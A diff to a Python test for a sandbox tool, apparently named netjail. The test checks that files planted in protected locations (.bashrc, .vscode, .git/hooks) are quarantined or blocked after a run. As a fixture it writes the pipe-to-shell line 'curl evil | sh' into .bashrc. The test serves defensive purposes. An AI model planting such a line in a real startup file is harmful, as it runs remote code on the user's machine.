@@ -210,16 +210,18 @@ def test_protected_names_that_did_not_exist_are_quarantined_after_the_run(netjai
     result = netjail.run(
         "-s", str(cfg), "-c",
         "ls -A; echo 'curl evil | sh' > .bashrc; mkdir -p .vscode .git/hooks; echo '{}' > .vscode/tasks.json; "
-        "echo hook > .git/hooks/post-checkout; echo kept > notes.txt",
+        "echo hook > .git/hooks/post-checkout; echo hook-rc=$?; echo kept > notes.txt",
     )  # fmt: skip
     assert result.returncode == 0, result.explain()
+    # a missing .git/hooks is a read-only placeholder during the run (issue 10), removed afterwards
+    assert "hook-rc=1" in result.stdout
     assert ".bashrc" not in result.stdout.split(), "no stub file is planted in the user's tree"
     assert not (netjail.work / ".bashrc").exists() and not (netjail.work / ".vscode").exists()
     assert not (netjail.work / ".git" / "hooks").exists()
     assert (netjail.work / "notes.txt").read_text() == "kept\n"
     quarantined = [r for r in result.records if r["event"] == "quarantine"]
-    assert {Path(r["path"]).name for r in quarantined} == {".bashrc", ".vscode", "hooks"}
+    assert {Path(r["path"]).name for r in quarantined} == {".bashrc", ".vscode"}
     assert (
         Path(next(r["moved_to"] for r in quarantined if r["path"].endswith(".bashrc")))
     ).read_text() == "curl evil | sh\n"
-    assert result.stderr.count("(a protected name)") == 3
+    assert result.stderr.count("(a protected name)") == 2
